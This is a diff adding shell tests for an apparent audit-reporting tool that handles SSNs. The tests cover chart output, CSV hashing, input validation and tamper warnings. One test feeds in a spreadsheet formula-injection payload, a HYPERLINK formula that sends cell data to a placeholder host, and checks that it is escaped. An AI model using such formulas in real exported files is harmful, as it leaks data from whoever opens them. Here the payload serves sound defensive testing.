@@ -131,6 +131,7 @@ no_ssn_in() {
 	facts day2.html.dom >f
 	grep -qx "chart chart-days 1" f
 	grep -qx "total out deny 4" f
+	[ "$(search_count --decision deny --since "$day2" --until "$day2")" -eq 4 ]
 	grep -qx "total out allow 0" f
 	grep -q "period $day2 to $day2" day2.html.dom
 	run "$CSGW" -c "$G" audit report --partner TX -o tx.html
@@ -140,6 +141,17 @@ no_ssn_in() {
 	facts tx.html.dom >f
 	grep -qx "chart chart-partners 1" f
 	grep -qx "table denials 1 1" f
+	# Days with nothing are on the time axis too: a week from the first
+	# day has seven bars, four of them empty.
+	day0=$(date -u +%F) day6=$(date -u -d +6days +%F)
+	run "$CSGW" -c "$G" audit report --since "$day0" --until "$day6" -o week.html
+	[ "$status" -eq 0 ]
+	browse week.html
+	facts week.html.dom >f
+	grep -qx "chart chart-days 7" f
+	[ "$(grep -c '^bar chart-days .* 0$' f)" -eq 4 ]
+	grep -qx "bar chart-days $day0 0" f
+	grep -qx "bar chart-days $day2 4" f
 }
 
 @test "a table longer than --rows is counted on the page, every row in the CSV beside it" {
@@ -156,6 +168,8 @@ no_ssn_in() {
 	[ "$(grep -c '^denials,' review.csv)" -eq 5 ]
 	python3 -c 'import csv, sys; rows = list(csv.DictReader(open(sys.argv[1]))); assert len(rows) == 5, rows' review.csv
 	no_ssn_in review.csv
+	# The CSV holds the keyed hash's start only, as the page does.
+	! grep -Eq '[0-9a-f]{13}' <(cut -d, -f12 review.csv)
 	# --detail names another file.
 	run "$CSGW" -c "$G" audit report --rows 2 -o other.html --detail rows/all.csv
 	[ "$status" -eq 73 ] || [ "$status" -eq 74 ] # rows/ does not exist
@@ -222,12 +236,47 @@ no_ssn_in() {
 	[ "$("$CSGW" -c "$G" --environment test audit search --ssn 906-54-3210 --decision accounted --format csv | tail -n +2 | wc -l)" -eq 2 ]
 }
 
+@test "what a person typed cannot become a formula in the CSV a spreadsheet opens" {
+	"$CSGW" -c "$G" --environment test protect add --ssn 906-54-3210 --flag nondisclosure >/dev/null
+	"$CSGW" -c "$G" --environment test protect remove --ssn 906-54-3210 --flag nondisclosure \
+		--reason '=HYPERLINK("http://example.invalid/?"&A1,"open")' >/dev/null
+	run "$CSGW" -c "$G" audit report --rows 1 -o review.html
+	[ "$status" -eq 0 ]
+	grep '^changes,' review.csv | grep -q ",\"'=HYPERLINK(\"\"http"
+	! grep -q ',=HYPERLINK' review.csv
+	python3 - review.csv <<-'EOF'
+		import csv, sys
+		for row in csv.DictReader(open(sys.argv[1])):
+		    assert not row["detail"].startswith(("=", "+", "-", "@")), row
+	EOF
+}
+
+@test "an accounting from a log that does not verify says so first, exit 65" {
+	sqlite3 audit/audit.db "UPDATE entries SET partner = 'NY' WHERE id = 12"
+	run "$CSGW" -c "$G" --environment test audit accounting --ssn 906-54-3210
+	echo "$output"
+	[ "$status" -eq 65 ]
+	"$CSGW" -c "$G" --environment test audit accounting --ssn 906-54-3210 2>/dev/null >acc.txt || true
+	[ "$(head -1 acc.txt)" = "# WARNING: the audit log does not verify: $BATS_TEST_TMPDIR/audit/audit.db: entry 12 was changed after it was written" ]
+	run "$CSGW" -c "$G" --environment test audit accounting --ssn 906-54-3210 -o acc.html
+	[ "$status" -eq 65 ]
+	grep -q 'class="alarm" data-verified="no"' acc.html
+}
+
 @test "report and accounting refuse what they cannot do, and leave no file" {
 	run "$CSGW" -c "$G" audit report
 	[ "$status" -eq 64 ]
 	run "$CSGW" -c "$G" audit report --since yesterday -o r.html
 	[ "$status" -eq 64 ]
 	[[ "$output" == *"--since yesterday: expected a date YYYY-MM-DD"* ]]
+	for rows in 0 -1 " 3" 99999999999999999999999 2x; do
+		run "$CSGW" -c "$G" audit report --rows "$rows" -o r.html
+		[ "$status" -eq 64 ]
+		[[ "$output" == *"expected a number from 1 to 1000000"* ]]
+	done
+	run "$CSGW" -c "$G" audit report --since 2026-12-31 --until 2026-12-01 -o r.html
+	[ "$status" -eq 64 ]
+	[[ "$output" == *"an empty period"* ]]
 	run "$CSGW" -c "$G" audit accounting -o a.html
 	[ "$status" -eq 64 ]
 	run "$CSGW" -c "$G" --environment test audit accounting --ssn 123-45-678
